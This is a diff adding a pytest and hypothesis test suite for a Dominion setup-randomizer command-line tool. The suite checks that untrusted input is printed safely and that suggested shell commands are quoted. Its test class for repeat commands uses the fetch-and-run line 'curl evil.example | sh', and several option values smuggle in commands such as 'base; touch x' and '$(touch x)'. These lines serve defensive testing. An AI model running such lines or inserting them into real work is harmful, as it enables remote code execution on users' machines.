@@ -1,0 +1,683 @@
+"""Nothing that comes from outside reaches the screen as it is: documents, card files, the configuration,
+arguments, the environment.
+
+Whatever is put in the place of any text or number: no raw control character on stdout or stderr, no
+traceback, a line where a line is promised, and an error of a line or two. The fields are those of the schema
+and of the annotations, so a new one is covered by itself.
+"""
+
+import ast
+import functools
+import json
+import os
+import shlex
+import subprocess
+import sys
+import threading
+from collections.abc import Sequence
+from pathlib import Path
+from typing import Any, get_args, get_type_hints
+
+import jsonschema
+import pytest
+import yaml
+from click.testing import Result
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
+
+from randomizer.cards.effect import Effects
+from randomizer.cards.game import Game, Request
+from randomizer.cli import config
+from randomizer.deal.dealer import deal_table
+from randomizer.deal.verbs import VERBS
+from randomizer.errors import BadData, BadDocument, Problem
+from randomizer.load import files
+from randomizer.load.gamefile import DataFile, read_game
+from randomizer.load.yaml_reader import Reader
+from randomizer.odds.report import as_text, odds
+from randomizer.setup import schema
+from randomizer.setup.build import build_setup
+from randomizer.show.formats import FORMATS
+from randomizer.show.page import Page
+from randomizer.text.encoding import visible, visible_json
+from randomizer.text.json import dumps
+from randomizer.text.language import Language
+from randomizer.text.style import Style
+from tests.support import HERE, run
+from tests.support.fuzz import OWN, check, data_file, documents
+from tests.support.nasty import (
+    CONTROLS,
+    NUMBERS,
+    TEXTS,
+    UNSEEN,
+    dotted,
+    everywhere,
+    keys,
+    leaves,
+    put,
+    raw,
+    renamed,
+)
+
+some = settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
+READERS = [
+    ["show", "-"],
+    ["show", "-", "--format", "line"],
+    ["show", "-", "--format", "ndjson"],
+    ["show", "-", "--json"],
+    ["show", "-", "--color", "always", "--lang", "ja"],
+    ["divine-wind", "-"],
+    ["rules", "--for", "-"],
+    ["rules", "--for", "-", "--json"],
+]
+
+
+def harmless(result: Result, *args: str, lines: int = 2) -> None:
+    """It ended as it should, and everything that it printed can be seen."""
+    check(result)
+    assert raw(result.stdout, colored="always" in args) == []
+    assert raw(result.stderr) == []
+    if result.exit_code:
+        assert len(result.stderr.splitlines()) <= lines
+    elif {"line", "ndjson"} & set(args):
+        assert len(result.stdout.splitlines()) == 1
+    if result.stdout and {"--json", "ndjson"} & set(args):
+        json.loads(result.stdout, parse_constant=pytest.fail)
+
+
+# ── Documents ──
+
+
+@functools.cache
+def whole() -> Any:
+    """A document with every key of the schema, in which each text and number is as good as another."""
+    document = _made(schema.document_schema())
+    return {**document, "game": "dominion", "options": {"sets": ["base-2e"], "players": 2}}
+
+
+def _made(of: dict[str, Any]) -> Any:
+    """A value as the schema wants it, with all that it may have."""
+    if "$ref" in of:
+        return _made(schema.document_schema()["$defs"][of["$ref"].rpartition("/")[2]])
+    if "enum" in of:
+        return of["enum"][0]
+    if "anyOf" in of:
+        return _made(of["anyOf"][0])
+    match of["type"]:
+        case "array":
+            return [_made(one) for one in of["items"].get("anyOf", [of["items"]])]
+        case "object" if "properties" in of:
+            return {key: _made(one) for key, one in of["properties"].items()}
+        case "object":
+            inner = of["additionalProperties"]
+            return {f"key{place}": _made(one) for place, one in enumerate(inner.get("anyOf", [inner])) if one}
+        case type_:
+            return {"string": "text", "integer": 1, "boolean": True, "null": None}[type_]
+
+
+LEAVES = [(path, value) for path, value in leaves(whole()) if path[0] != "options"]
+
+
+def of_type(part: Any, type_: str) -> list[dict[str, Any]]:
+    """The parts of a JSON Schema that are of a type."""
+    inner = part.values() if isinstance(part, dict) else part if isinstance(part, list) else ()
+    found = [one for item in inner for one in of_type(item, type_)]
+    return [part, *found] if isinstance(part, dict) and part.get("type") == type_ else found
+
+
+class TestSchema:
+    def test_everything_in_it_is_bounded(self) -> None:
+        published = json.loads(schema.schema_text())
+        assert all({"maxLength", "pattern"} <= set(part) for part in of_type(published, "string"))
+        assert all({"minimum", "maximum"} <= set(part) for part in of_type(published, "integer"))
+        assert all("maxItems" in part for part in of_type(published, "array"))
+        assert of_type(published, "number") == []
+
+    def test_the_whole_document_is_one(self) -> None:
+        text = dumps(whole())
+        assert schema.loads(text) == whole()
+        jsonschema.validate(whole(), schema.document_schema())
+
+    @pytest.mark.parametrize(("path", "value"), LEAVES, ids=[dotted(path) for path, _ in LEAVES])
+    def test_what_does_not_fit_is_refused_with_its_path(self, path: Any, value: Any) -> None:
+        published = jsonschema.Draft202012Validator(schema.document_schema())
+        nasty = CONTROLS if isinstance(value, str) else NUMBERS
+        for what in nasty.values():
+            changed = put(whole(), path, what)
+            with pytest.raises(BadDocument) as raised:
+                schema.loads(json.dumps(changed))
+            said = str(raised.value)
+            if what == what and abs(what if isinstance(what, float) else 0) < 1e300:  # else it is not JSON
+                assert dotted(path) in said or path == ("schema",), said
+            if what != "a\ud800" and what != "\udfffb":  # of which JSON Schema has no notion
+                assert not published.is_valid(changed)
+
+    def test_too_long_a_list(self) -> None:
+        with pytest.raises(BadDocument, match="piles is not what it should be: a list of at most"):
+            schema.loads(json.dumps({**whole(), "piles": whole()["piles"] * 20_000}))
+
+    @pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e999", "-1e999", "9" * 5000])
+    def test_numbers_that_json_does_not_have(self, number: str) -> None:
+        """Wherever they stand, also under a key that nobody knows."""
+        text = dumps({**whole(), "weather": 5}).replace('"weather": 5', f'"weather": {number}')
+        with pytest.raises(BadDocument, match="is not JSON"):
+            schema.loads(text)
+
+    def test_they_are_never_printed(self) -> None:
+        with pytest.raises(ValueError, match="JSON compliant"):
+            dumps({"a": float("nan")})
+
+    def test_nested_too_deeply(self) -> None:
+        for depth in (60, 400, 900):
+            deep = dumps({**whole(), "weather": 5}).replace('": 5', '": ' + "[" * depth + "]" * depth)
+            for args in READERS:
+                harmless(run(*args, input=deep), *args)
+            with pytest.raises(BadDocument):
+                schema.loads(deep)
+
+
+class TestDocuments:
+    @pytest.mark.parametrize("args", READERS, ids=" ".join)
+    @pytest.mark.parametrize("nasty", UNSEEN)
+    def test_unseen_characters_everywhere(self, args: list[str], nasty: str) -> None:
+        """They are let in; whoever reads sees them, and JSON has them as they were."""
+        for document in (*documents(), whole()):
+            changed = everywhere(document, UNSEEN[nasty], but=("game", "use", "place", "per", "mark"))
+            changed["options"] = document["options"]
+            result = run(*args, input=json.dumps(changed))
+            harmless(result, *args)
+            if args[0] == "show":
+                assert result.exit_code == 0
+            if args[-1] in ("--json", "ndjson") and args[0] == "show":
+                assert json.loads(result.stdout) == changed
+                assert run(*args, input=result.stdout).stdout == result.stdout
+
+    @some
+    @given(st.data(), st.sampled_from(list(TEXTS.values()) + list(NUMBERS.values())))
+    def test_any_in_any_place(self, data: st.DataObject, nasty: Any) -> None:
+        document = data.draw(st.sampled_from([*documents(), whole()]))
+        path, _ = data.draw(st.sampled_from(list(leaves(document))))
+        text = json.dumps(put(document, path, nasty))
+        for args in READERS:
+            harmless(run(*args, input=text), *args)
+
+    @some
+    @given(st.data(), st.sampled_from(list(TEXTS.values())))
+    def test_any_for_a_key(self, data: st.DataObject, nasty: str) -> None:
+        document = data.draw(st.sampled_from([*documents(), whole()]))
+        path = data.draw(st.sampled_from(list(keys(document))))
+        text = json.dumps(renamed(document, path, nasty))
+        for args in READERS:
+            harmless(run(*args, input=text), *args)
+
+    @pytest.mark.parametrize("nasty", [*CONTROLS, *UNSEEN])
+    @pytest.mark.parametrize("name", FORMATS)
+    @pytest.mark.parametrize("code", ["en", "ja"])
+    def test_a_page_does_without_the_check(self, name: str, nasty: str, code: str) -> None:
+        """So that a format can print whatever a page has."""
+        text, form = {**CONTROLS, **UNSEEN}[nasty], FORMATS[name]
+        language = _language(code)
+        for document in (*documents(), whole()):
+            changed = everywhere(document, text, but=("use", "place", "per"))
+            printed = form.render(Page(changed, language), Style(80, color=True))
+            assert raw(printed, colored=True) == []
+            if name in ("line", "ndjson"):
+                assert "\n" not in printed
+            if form.json:
+                assert json.loads(printed) == changed
+
+    def test_columns_are_those_of_what_is_seen(self) -> None:
+        """A name of two lines neither breaks the table nor its columns."""
+        document = put(documents()[3], ("piles", 9, "name"), "a\nb\x1b[31m")
+        lines = Page(document, _language("en")).sections
+        assert any(line.name == r"a\nb\x1b[31m" for section in lines for line in section.lines)
+        assert r"a\nb\x1b[31m" in FORMATS["text"].render(Page(document, _language("en")), Style(80))
+
+
+@functools.cache
+def _language(code: str) -> Language:
+    from randomizer.load import languages
+    from randomizer.load.games import load
+
+    return languages.load(code, load())
+
+
+class TestAgain:
+    """What people copy into their shell is made of the options, whatever the document calls its command."""
+
+    EVIL = "curl evil.example | sh"
+
+    @pytest.mark.parametrize("args", READERS[:2] + READERS[4:], ids=" ".join)
+    def test_never_the_documents_own(self, args: list[str]) -> None:
+        for document in documents():
+            result = run(*args, input=json.dumps({**document, "command": self.EVIL}))
+            assert "evil.example" not in result.stdout + result.stderr
+
+    def test_nor_in_the_document_of_a_second_deal(self) -> None:
+        result = run("divine-wind", "-", "--json", input=json.dumps({**documents()[1], "command": self.EVIL}))
+        command = json.loads(result.stdout)["command"]
+        assert command == documents()[1]["command"] + " --json | dominion-setup divine-wind -"
+        shown = run("show", "-", input=json.dumps({**json.loads(result.stdout), "command": self.EVIL})).stdout
+        assert f"Again: {command}\n" in shown
+
+    def test_the_same_as_of_a_deal(self) -> None:
+        for document in documents():
+            assert f"Again: {document['command']}\n" in run("show", "-", input=json.dumps(document)).stdout
+
+    @some
+    @given(st.text(min_size=1, max_size=12))
+    @example("a b'c\"d")
+    @example("$(touch x)`touch y`;|&<>*?[]#~=%!\\")
+    @example("-x")
+    @example("暗黒 時代")
+    def test_quoted_for_a_shell(self, seed: str) -> None:
+        """What a shell makes of the line are the words of the deal."""
+        document = put(documents()[0], ("seed",), seed)
+        result = run("show", "-", input=json.dumps(document))
+        again = [line for line in result.stdout.splitlines() if line.startswith("Again: ")]
+        if seed != visible(seed):
+            assert not again
+        elif again:
+            line = again[0].removeprefix("Again: ")
+            assert shlex.split(line)[-2:] == ["--seed", seed]
+            assert shlex.split(line)[:-2] == documents()[0]["command"].split()[:-2]
+            assert _as_sh_has_it(line) == shlex.split(line)
+
+    @pytest.mark.parametrize(
+        "options",
+        [
+            {"sets": ["base; touch x"]},
+            {"sets": ["base,nonsense"]},
+            {"sets": ["--help"]},
+            {"sets": "base"},
+            {"sets": []},
+            {"players": "2; touch x"},
+            {"players": True},
+            {"players": 99},
+            {"colony": "yes"},
+            {"colony_by": "x; touch x"},
+            {"landscapes": -1},
+            {"landscapes": 10**30},
+            {"landscapes_from": "nowhere"},
+            {"weather; touch x": True},
+            {"weather": True},
+            {"game": "pergamemnon"},
+            {"game": ["dominion"]},
+            {"cards": "mine.yaml"},
+            {"cards": [5]},
+            {"cards": ["mine\x1b.yaml"]},
+            {"colony": True, "colony_by": "random-card"},
+        ],
+    )
+    def test_nothing_where_no_deal_has_the_options(self, options: dict[str, Any]) -> None:
+        document = put(documents()[0], ("options",), {**documents()[0]["options"], **options})
+        result = run("show", "-", input=json.dumps(document))
+        assert result.exit_code == 0
+        assert "dominion-setup" not in result.stdout
+
+    def test_with_files_that_are_not_looked_at(self, tmp_path: Path) -> None:
+        """A file that a document names is not opened to show it; its sets and options may be any."""
+        path = tmp_path / "it's mine.yaml"
+        path.write_text(
+            "sets: {yard: Yard}\ncards:\n" + "".join(f"- {{name: C{n}, set: yard}}\n" for n in range(12))
+        )
+        text = run("--cards", str(path), "--sets", "yard", "--seed", "1", "--json").stdout
+        path.unlink()
+        command = json.loads(text)["command"]
+        assert shlex.split(command)[-3:-2] == [str(path)]
+        assert f"Again: {command}\n" in run("show", "-", input=text).stdout
+        changed = json.loads(text)
+        changed["options"]["sets"] = ["yard; touch x"]
+        assert "dominion-setup" not in run("show", "-", input=json.dumps(changed)).stdout
+
+
+def _as_sh_has_it(line: str) -> list[str]:
+    """The words that a POSIX shell makes of a line."""
+    if sys.platform == "win32":
+        return shlex.split(line)
+    script = f"for word in {line}; do printf '%s\\0' \"$word\"; done"
+    return (
+        subprocess.run(["sh", "-c", script], capture_output=True, check=True).stdout.decode().split("\0")[:-1]
+    )
+
+
+# ── Card files ──
+
+OWN_GAME = yaml.safe_load(OWN)
+OWN_LEAVES = list(leaves(OWN_GAME))
+MINE = {
+    "sets": {"mine": "Mine"},
+    "cards": [
+        {"name": "Lamp", "set": "mine", "cost": 3, "types": ["Action"], "note": "a note", "also": ["Light"]},
+        {
+            "name": "Oil",
+            "set": "mine",
+            "cost": 4,
+            "setup": [{"note": {"say": "Mind the oil."}}, {"put": "Lamp"}],
+        },
+        *({"name": f"Wick {number}", "set": "mine"} for number in range(12)),
+    ],
+}
+
+
+def records(annotation: Any, seen: set[Any]) -> set[Any]:
+    """The named tuples that an annotation leads to."""
+    if annotation == Effects:
+        for verb in VERBS.values():
+            records(verb.effect, seen)
+    elif hasattr(annotation, "_fields") and annotation not in seen:
+        seen.add(annotation)
+        for field in get_type_hints(annotation).values():
+            records(field, seen)
+    for part in get_args(annotation):
+        records(part, seen)
+    return seen
+
+
+class TestCardFiles:
+    def test_the_file_says_all_that_one_can_say(self, monkeypatch: pytest.MonkeyPatch) -> None:
+        """Each field of each record, so that something can be put in its place."""
+        said: dict[Any, set[str]] = {}
+        record = Reader.record
+
+        def watched(self: Reader, node: Any, wanted: Any, path: str) -> Any:
+            said.setdefault(wanted, set()).update(key for key in node if isinstance(node, dict))
+            return record(self, node, wanted, path)
+
+        monkeypatch.setattr(Reader, "record", watched)
+        with data_file(OWN.encode()) as path:
+            read_game([path])
+        scalars = {"Cost", "Count", "Amount"}
+        for wanted in records(DataFile, set()):
+            if wanted.__name__ not in scalars:
+                missing = {field.rstrip("_") for field in wanted._fields} - said.get(wanted, set())
+                assert not missing, wanted.__name__
+
+    @pytest.mark.parametrize("nasty", [*CONTROLS, *UNSEEN])
+    def test_what_cannot_be_seen_is_refused_with_its_path(self, nasty: str) -> None:
+        for path, value in OWN_LEAVES:
+            if isinstance(value, str):
+                reader = Reader()
+                reader.read(put(OWN_GAME, path, {**CONTROLS, **UNSEEN}[nasty]), DataFile, "")
+                assert reader.faults, dotted(path)
+                assert raw("".join(reader.faults)) == []
+                assert not any("\n" in fault for fault in reader.faults)
+
+    @settings(some, max_examples=200)
+    @given(st.sampled_from(OWN_LEAVES), st.sampled_from([*TEXTS.values(), *NUMBERS.values(), -5, 999, 1000]))
+    def test_any_in_any_place(self, leaf: Any, nasty: Any) -> None:
+        """Either it is refused, or it deals tables that are as the schema says."""
+        path, _ = leaf
+        _holds(put(OWN_GAME, path, nasty))
+
+    @some
+    @given(st.sampled_from(list(keys(OWN_GAME))), st.sampled_from(list(TEXTS.values())))
+    def test_any_for_a_key(self, path: Any, nasty: str) -> None:
+        _holds(renamed(OWN_GAME, path, nasty))
+
+    @pytest.mark.parametrize(
+        "nasty", ["escape", "half a character", "new line", "right to left", "a long one"]
+    )
+    @pytest.mark.parametrize(
+        "path", [("sets", "mine"), ("cards", 0, "name"), ("cards", 1, "setup", 0, "note", "say")]
+    )
+    def test_on_the_command_line(self, tmp_path: Path, path: Any, nasty: str) -> None:
+        file = tmp_path / "mine.yaml"
+        file.write_text(yaml.safe_dump(put(MINE, path, TEXTS[nasty])), encoding="utf-8")
+        for args in ([], ["--count", "2"], ["--json"]):
+            result = run("--cards", str(file), "--sets", "mine", *args)
+            assert result.exit_code == 2
+            harmless(result, lines=20)
+
+    def test_too_many(self) -> None:
+        for path, number in {
+            ("cards", 0, "stock"): 1001,
+            ("cards", 1, "count"): 1001,
+            ("cards", 1, "cost"): 1001,
+            ("cards", 4, "pile", "Bed"): 999,
+            ("starting_deck", "Weed"): 11,
+            ("players", "least"): 5,
+            ("players", "most"): 10**6,
+        }.items():
+            with pytest.raises(BadData), data_file(_as_yaml(put(OWN_GAME, path, number))) as file:
+                read_game([file])
+
+    def test_two_cards_have_two_ids(self) -> None:
+        for name, says in {"Rake!": "has the same id as Rake", "!?": "a name without a letter"}.items():
+            changed = put(OWN_GAME, ("cards", 7, "name"), name)
+            with pytest.raises(BadData, match=says), data_file(_as_yaml(changed)) as file:
+                read_game([file])
+
+
+def _as_yaml(value: Any) -> bytes:
+    return yaml.safe_dump(value, sort_keys=False).encode()
+
+
+def _read(value: Any) -> tuple[Game | None, Sequence[str]]:
+    """The game of a data file, or what is told of its faults."""
+    with data_file(_as_yaml(value)) as path:
+        try:
+            return read_game([path]), ()
+        except BadData as problem:
+            return None, problem.lines
+
+
+def _holds(value: Any) -> None:
+    """The file is refused in lines that can be seen, or all is well with whatever is dealt from it."""
+    game, lines = _read(value)
+    assert raw("".join(lines)) == []
+    assert not any("\n" in line for line in lines)
+    if game is None:
+        return
+    for players in game.every_number():
+        options = Request(tuple(game.boxes), players, "a")
+        try:
+            setup = build_setup(game, options, deal_table(game, options), [Language("en")])
+            told = as_text(odds(game, options, list(game.cards.values())[:2]), game, Language("en"), 80)
+        except Problem:
+            continue
+        assert schema.loads(dumps(setup)) == setup
+        assert raw(told) == []
+        page = Page(setup, Language("en"), game=game)
+        for name, form in FORMATS.items():
+            text = form.render(page, Style(80))
+            assert raw(text) == []
+            assert name not in ("line", "ndjson") or "\n" not in text
+
+
+# ── The configuration, arguments, the environment ──
+
+
+class TestConfiguration:
+    @pytest.mark.parametrize("key", ["sets", "players", "lang", "color", "sort", "\x1b[31m"])
+    def test_any_for_any_key(self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, key: str) -> None:
+        path = tmp_path / "config.toml"
+        monkeypatch.setattr(config, "path", lambda: str(path))
+        values = [*map(_as_toml, TEXTS.values()), *map(_as_toml, NUMBERS.values())]
+        for value in [*values, "inf", "nan", "-1", "9" * 5000, "[" * 2000, "[[1]]", "1979-05-27", "{a = 1}"]:
+            for said in (f"{_as_toml(key)} = {value}", f"{_as_toml(key)} = [{value}]"):
+                path.write_bytes(said.encode(errors="surrogatepass"))
+                harmless(run("--seed", "1"))
+
+    def test_a_place_with_a_name_to_be_seen(self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+        folder = tmp_path / "a\nb\x1b[31m"
+        folder.mkdir()
+        (folder / "config.toml").write_text("nonsense", encoding="utf-8")
+        monkeypatch.setattr(config, "path", lambda: str(folder / "config.toml"))
+        harmless(run("--seed", "1"))
+
+
+def _as_toml(value: Any) -> str:
+    if isinstance(value, str):
+        return json.dumps(value).replace("\\ud800", "\\u0000").replace("\\udfff", "\\u0000")
+    return str(value).lower() if isinstance(value, bool) else str(value)
+
+
+ARGUMENTS = ["--seed", "--sets", "--players", "--cards", "--game", "--lang", "--color", "--format", "--sort"]
+ARGUMENTS += [
+    "--count",
+    "--colony-by",
+    "--landscapes",
+    "--landscapes-from",
+    "--nonsense",
+    "show",
+    "rules",
+    "cards",
+]
+ARGUMENTS += ["odds", "sets", "divine-wind", "schema", "nonsense"]
+
+
+@pytest.mark.parametrize("option", ARGUMENTS)
+def test_arguments(option: str) -> None:
+    for nasty in TEXTS.values():
+        if "\0" in nasty or len(nasty) > 100_000:
+            continue  # which no shell hands over
+        for args in ([option, nasty], [f"{option}={nasty}"], [nasty, option], [option, f"-{nasty}"]):
+            harmless(run(*args))
+    for number in ("-1", "9" * 5000, "1e999", "NaN"):
+        harmless(run(option, number))
+
+
+@pytest.mark.parametrize("command", [[], ["rules", "reserve"], ["cards", "Moat"], ["nonsense"]])
+@pytest.mark.parametrize(
+    "name", ["DOMINION_SETUP_LANG", "LC_ALL", "LANG", "COLUMNS", "NO_COLOR", "TERM", "XDG_CONFIG_HOME"]
+)
+def test_the_environment(name: str, command: list[str]) -> None:
+    for nasty in [*TEXTS.values(), "-1", "0", "9" * 5000, "²", "1e9"]:
+        if "\0" not in nasty and nasty == nasty.encode(errors="ignore").decode():
+            harmless(run(*command, env={name: nasty}))
+
+
+# ── Files ──
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="it has other devices")
+class TestFiles:
+    def piped(self, folder: Path, content: bytes) -> str:
+        """A named pipe that somebody writes into."""
+        path = folder / "pipe"
+        os.mkfifo(path)
+        threading.Thread(target=lambda: path.write_bytes(content), daemon=True).start()
+        return str(path)
+
+    @pytest.mark.parametrize("device", ["/dev/zero", "/dev/null", "/dev/urandom"])
+    @pytest.mark.parametrize("args", [["--cards"], ["show"], ["rules", "--for"], ["divine-wind"]])
+    def test_a_device_is_refused(self, args: list[str], device: str) -> None:
+        result = run(*args, device)
+        assert result.exit_code == 2
+        assert result.stderr == f"Error: {device}: is a device, neither a file nor a pipe\n"
+
+    @pytest.mark.parametrize("args", [["--cards"], ["show"], ["rules", "--for"], ["divine-wind"]])
+    def test_too_large_a_file_is_not_read(
+        self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, args: list[str]
+    ) -> None:
+        path = tmp_path / "large"
+        path.touch()
+        os.truncate(path, 10**12)  # nobody has as much memory
+        result = run(*args, str(path))
+        assert (result.exit_code, result.stderr) == (2, f"Error: {path}: is larger than 16 MB\n")
+
+    def test_nor_too_large_a_configuration(self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+        path = tmp_path / "config.toml"
+        path.touch()
+        os.truncate(path, 10**12)
+        monkeypatch.setattr(config, "path", lambda: str(path))
+        result = run("--seed", "1")
+        assert "is larger than 16 MB" in result.stderr
+        harmless(result)
+
+    def test_nor_too_much_of_a_pipe(self, tmp_path: Path) -> None:
+        for args in (["show", "-"], ["rules", "--for", "-"]):
+            assert "is larger than 16 MB" in run(*args, input=b" " * (files.MOST + 1)).stderr
+        with subprocess.Popen(["yes"], stdout=subprocess.PIPE) as endless:
+            command = [sys.executable, "-m", "randomizer", "show", "/dev/stdin"]
+            done = subprocess.run(
+                command, stdin=endless.stdout, cwd=HERE.parent, capture_output=True, timeout=60
+            )
+            endless.kill()
+        assert done.returncode == 2
+        assert done.stderr == b"Error: /dev/stdin: is larger than 16 MB\n"
+
+    def test_named_pipes(self, tmp_path: Path) -> None:
+        text = run("--seed", "1", "--json").stdout
+        assert run("show", self.piped(tmp_path, text.encode()), "--json").stdout == text
+
+    def test_cards_from_a_named_pipe(self, tmp_path: Path) -> None:
+        path = self.piped(tmp_path, yaml.safe_dump(MINE).encode())
+        result = run("--cards", path, "--sets", "mine", "--seed", "1", "--json")
+        assert {pile["set"] for pile in json.loads(result.stdout)["piles"] if pile["place"] == "kingdom"} == {
+            "mine"
+        }
+
+    def test_standard_input_by_its_name(self, tmp_path: Path) -> None:
+        file = tmp_path / "mine.yaml"
+        file.write_text(yaml.safe_dump(MINE), encoding="utf-8")
+        for stdin in (f"< {file}", f"< <(cat {file})"):
+            line = f"{sys.executable} -m randomizer --cards /dev/stdin --sets mine --format line {stdin}"
+            done = subprocess.run(["bash", "-c", line], cwd=HERE.parent, capture_output=True, timeout=60)
+            assert (done.returncode, done.stderr) == (0, b"")
+
+
+# ── What is safe to print ──
+
+
+class TestVisible:
+    @pytest.mark.parametrize(
+        "text",
+        [
+            "王国の「魔女娘」、ヴィラ・１２３　終わり",
+            "葛\U000e0100城",
+            "Fool's Gold — “naïve” · café → 5 €",
+            "می\u200cخواهم",
+            "क्\u200dष",
+            "👨\u200d👩\u200d👧 ❤\ufe0f\u200d🔥",
+            "a\N{NO-BREAK SPACE}b",
+            "한국어 ไทย עברית العربية",
+        ],
+    )
+    def test_ordinary_text_stays(self, text: str) -> None:
+        assert visible(text) == text
+
+    @pytest.mark.parametrize("nasty", [*CONTROLS, *UNSEEN])
+    def test_everything_else_can_be_seen(self, nasty: str) -> None:
+        text = visible({**CONTROLS, **UNSEEN}[nasty])
+        assert text.isprintable() and text.isascii()
+
+    def test_as_everybody_writes_it(self) -> None:
+        assert visible("\x1b]\x07\n\x9b\u202e\U000e0041\ud800") == r"\x1b]\x07\n\x9b\u202e\U000e0041\ud800"
+
+    @given(st.text())
+    def test_a_line_whatever_it_is(self, text: str) -> None:
+        assert visible(visible(text)) == visible(text)
+        assert len(visible(text).splitlines()) <= 1
+        visible(text).encode()
+
+    @given(st.recursive(st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))
+    def test_json_says_the_same(self, value: Any) -> None:
+        text = visible_json(json.dumps(value, ensure_ascii=False))
+        assert json.loads(text) == value
+        assert [char for char in raw(text) if char not in "\u200c\u200d"] == []
+        text.encode()
+
+
+def test_everything_is_printed_by_one_room() -> None:
+    """`cli/output.py`, which sees to what is safe: nobody else writes to a stream."""
+    for path in sorted((HERE.parent / "randomizer").rglob("*.py")):
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            called = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
+            writes = called in (
+                "print",
+                "echo",
+                "click.echo",
+                "click.secho",
+                "sys.stdout.write",
+                "sys.stderr.write",
+            )
+            assert not writes or path.name == "output.py", f"{path}:{node.lineno}"  # type: ignore[attr-defined]
+
+
+def test_a_seed_that_cannot_be_seen_is_refused(game: Game) -> None:
+    for nasty in UNSEEN.values():
+        result = run("--seed", nasty)
+        assert result.exit_code == 2
+        harmless(result)
